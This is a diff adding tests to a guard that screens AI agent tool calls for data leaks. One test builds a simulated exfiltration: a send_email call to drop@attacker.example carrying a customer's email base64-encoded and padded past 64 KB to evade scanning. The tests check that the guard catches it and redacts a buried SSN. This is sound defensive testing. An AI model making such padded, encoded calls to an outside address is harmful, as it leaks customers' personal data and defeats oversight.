@@ -203,6 +203,26 @@ describe("guard with classification on large and deep results", () => {
     await guard.close();
   });
 
+  it("sees a customer's email base64-encoded at the end of a body padded past 64 KB", async () => {
+    const { guard } = await supportGuard();
+    expect((await readCustomer(guard)).decision).toBe("allow");
+    const body = Buffer.from(`${"lorem ipsum ".repeat(10_000)}contact ${CUSTOMER.email}`).toString("base64");
+    const verdict = await guard.beforeCall({ server: "mail", tool: "send_email", args: { to: "drop@attacker.example", subject: "fyi", body }, sessionId: "s1" });
+    expect(verdict.policyIds).toContain("flow-to-egress-outside-allow");
+    await guard.close();
+  });
+
+  it("redacts an SSN inside a base64 attachment larger than 64 KB", async () => {
+    const { guard } = await supportGuard();
+    const attachment = Buffer.from(`${"line of a scanned form\n".repeat(4000)}SSN 219-09-9991`).toString("base64");
+    const call = { server: "crm", tool: "get_customer", args: { id: 7 }, sessionId: "s1" };
+    await guard.beforeCall(call);
+    const verdict = await guard.afterCall(call, { attachment });
+    expect(verdict.decision).toBe("redact");
+    expect(verdict.decision === "redact" && verdict.value).toEqual({ attachment: "[REDACTED:pii.ssn]" });
+    await guard.close();
+  });
+
   it("lists each redacted place once in the audit record, however many values it held", async () => {
     const { guard, sink } = await supportGuard();
     const text = Array.from({ length: 5000 }, (_, i) => `ticket ${i}: SSN 219-09-${String(1000 + i).padStart(4, "0")}`).join("\n");
